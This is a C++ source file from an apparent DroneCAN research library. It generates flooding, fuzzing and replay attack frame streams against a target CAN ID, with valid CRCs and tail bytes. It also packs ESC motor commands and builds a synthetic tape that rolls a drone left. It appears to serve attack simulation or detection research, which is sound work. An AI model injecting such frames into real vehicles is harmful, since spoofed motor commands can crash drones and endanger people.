#include "dronecan/attacks.hpp"

#include <array>
#include <random>
#include <string>

#include "dronecan/error.hpp"

namespace dronecan {
namespace {

constexpr std::size_t kRawCommandPayload = 11;
constexpr std::size_t kRawCommandChannels = 6;

struct TailPair {
    std::uint8_t first;
    std::uint8_t second;
};

TailPair injection_tails(Fidelity fidelity, std::size_t k)
{
    if (fidelity == Fidelity::ListingFaithful) {
        const auto t = static_cast<std::uint8_t>(k & 0xFFU);
        return {t, t};
    }
    const auto tid = static_cast<std::uint8_t>(k % kTransferIdModulo);
    return {encode_tail({true, false, false, tid}), encode_tail({false, true, true, tid})};
}

// Emits frame1 = [crc_lo crc_hi p0..p4 T1], frame2 = [p5..p10 T2].
void emit_pair(std::vector<CanFrame>& out, std::uint32_t id, Micros t, std::uint16_t crc,
               std::span<const std::uint8_t, kRawCommandPayload> payload, TailPair tails)
{
    std::array<std::uint8_t, 8> f1{};
    f1[0] = static_cast<std::uint8_t>(crc & 0xFFU);
    f1[1] = static_cast<std::uint8_t>(crc >> 8);
    std::copy_n(payload.begin(), 5, f1.begin() + 2);
    f1[7] = tails.first;

    std::array<std::uint8_t, 7> f2{};
    std::copy_n(payload.begin() + 5, 6, f2.begin());
    f2[6] = tails.second;

    out.push_back(make_frame(id, f1, t));
    out.push_back(make_frame(id, f2, t));
}

void require_kind(const AttackConfig& cfg, AttackKind kind)
{
    cfg.validate();
    if (cfg.kind != kind) {
        throw Error(Errc::InvalidConfig, std::string("expected a ") + std::string(to_string(kind)) + " config, got " +
                                             std::string(to_string(cfg.kind)));
    }
}

}  // namespace

std::string_view to_string(AttackKind kind) noexcept
{
    switch (kind) {
    case AttackKind::Flooding: return "Flooding";
    case AttackKind::Fuzzy: return "Fuzzy";
    case AttackKind::Replay: return "Replay";
    }
    return "Unknown";
}

std::string_view to_string(Fidelity fidelity) noexcept
{
    return fidelity == Fidelity::ListingFaithful ? "ListingFaithful" : "SpecCorrect";
}

void AttackConfig::validate() const
{
    if (interval.count() <= 0) {
        throw Error(Errc::InvalidConfig, "attack interval must be positive");
    }
    if (duration.count() <= 0) {
        throw Error(Errc::InvalidConfig, "attack duration must be positive");
    }
    if (start.count() < 0) {
        throw Error(Errc::InvalidConfig, "attack start must be non-negative");
    }
    if (target_id >= kCanIdLimit) {
        throw Error(Errc::InvalidConfig, "target id exceeds 29 bits");
    }
}

std::size_t injection_count(const AttackConfig& cfg)
{
    cfg.validate();
    const auto d = cfg.duration.count();
    const auto i = cfg.interval.count();
    return static_cast<std::size_t>((d + i - 1) / i);
}

std::size_t expected_frame_count(const AttackConfig& cfg)
{
    return 2 * injection_count(cfg);
}

std::vector<CanFrame> flooding_stream(const AttackConfig& cfg)
{
    require_kind(cfg, AttackKind::Flooding);
    const std::size_t n = injection_count(cfg);
    constexpr std::array<std::uint8_t, kRawCommandPayload> zeros{};
    const std::uint16_t crc = compute_transfer_crc(cfg.signature, zeros);

    std::vector<CanFrame> out;
    out.reserve(2 * n);
    for (std::size_t k = 0; k < n; ++k) {
        const Micros t = cfg.start + cfg.interval * static_cast<std::int64_t>(k);
        emit_pair(out, cfg.target_id, t, crc, zeros, injection_tails(cfg.fidelity, k));
    }
    return out;
}

std::vector<CanFrame> fuzzy_stream(const AttackConfig& cfg)
{
    require_kind(cfg, AttackKind::Fuzzy);
    const std::size_t n = injection_count(cfg);
    std::mt19937_64 rng(cfg.seed);

    std::vector<CanFrame> out;
    out.reserve(2 * n);
    std::array<std::uint8_t, kRawCommandPayload> payload{};
    for (std::size_t k = 0; k < n; ++k) {
        for (auto& b : payload) {
            b = static_cast<std::uint8_t>(rng() >> 56);
        }
        const Micros t = cfg.start + cfg.interval * static_cast<std::int64_t>(k);
        emit_pair(out, cfg.target_id, t, compute_transfer_crc(cfg.signature, payload), payload,
                  injection_tails(cfg.fidelity, k));
    }
    return out;
}

std::vector<CanFrame> replay_stream(const RecordedTape& tape, const AttackConfig& cfg)
{
    require_kind(cfg, AttackKind::Replay);
    if (tape.empty()) {
        throw Error(Errc::EmptyTape, "replay tape has no frames");
    }
    const Micros origin = tape.frames.front().timestamp();
    const Micros end = cfg.end();

    std::vector<CanFrame> out;
    out.reserve(tape.frames.size());
    for (const auto& f : tape.frames) {
        const Micros t = cfg.start + (f.timestamp() - origin);
        if (t >= end) {
            break;
        }
        out.push_back(make_frame(cfg.target_id, f.data(), t));
    }
    return out;
}

RecordedTape capture_tape(std::span<const CanFrame> frames, std::uint32_t id_filter)
{
    RecordedTape tape;
    for (const auto& f : frames) {
        if (f.id() == id_filter) {
            tape.frames.push_back(f);
        }
    }
    return tape;
}

std::vector<CanFrame> generate_attack(const AttackConfig& cfg, const RecordedTape* tape)
{
    switch (cfg.kind) {
    case AttackKind::Flooding: return flooding_stream(cfg);
    case AttackKind::Fuzzy: return fuzzy_stream(cfg);
    case AttackKind::Replay:
        if (tape == nullptr) {
            throw Error(Errc::MissingTape, "replay attack requires a recorded tape");
        }
        return replay_stream(*tape, cfg);
    }
    throw Error(Errc::InvalidConfig, "unknown attack kind");
}

std::vector<std::uint8_t> pack_raw_command(std::span<const std::int16_t> commands)
{
    if (commands.size() > kRawCommandChannels) {
        throw Error(Errc::PayloadTooLong, "RawCommand carries at most six channels");
    }
    std::vector<std::uint8_t> out(kRawCommandPayload, 0);
    std::size_t bit = 0;
    for (std::int16_t c : commands) {
        if (c < -8192 || c > 8191) {
            throw Error(Errc::FieldOverflow, "ESC command " + std::to_string(c) + " exceeds 14 bits");
        }
        const auto raw = static_cast<std::uint16_t>(c) & 0x3FFFU;
        for (unsigned i = 0; i < 14; ++i, ++bit) {
            if ((raw >> i) & 1U) {
                out[bit / 8] = static_cast<std::uint8_t>(out[bit / 8] | (1U << (bit % 8)));
            }
        }
    }
    return out;
}

RecordedTape synthetic_leftward_tape(Micros length, Micros period)
{
    if (length.count() <= 0 || period.count() <= 0) {
        throw Error(Errc::InvalidConfig, "tape length and period must be positive");
    }
    constexpr MessageId raw_command{5, kRawCommandTypeId, 1};
    RecordedTape tape;
    std::uint8_t tid = 0;
    std::int64_t k = 0;
    for (Micros t{0}; t < length; t += period, ++k) {
        // Right-side motors (1, 3) run hotter than the left pair to roll left;
        // a slow wobble keeps consecutive payloads distinct.
        const std::int64_t w = k % 200;
        const auto wobble = static_cast<std::int16_t>(3 * (w < 100 ? w : 200 - w) - 150);
        const std::array<std::int16_t, kRawCommandChannels> cmds{
            static_cast<std::int16_t>(3600 + wobble), static_cast<std::int16_t>(5400 - wobble),
            static_cast<std::int16_t>(3600 + wobble), static_cast<std::int16_t>(5400 - wobble), 0, 0};
        const auto payload = pack_raw_command(cmds);
        for (auto& f : split_transfer(raw_command, payload, tid, kRawCommandSignature, t)) {
            tape.frames.push_back(std::move(f));
        }
        tid = static_cast<std::uint8_t>((tid + 1) % kTransferIdModulo);
    }
    return tape;
}

}  // namespace dronecan
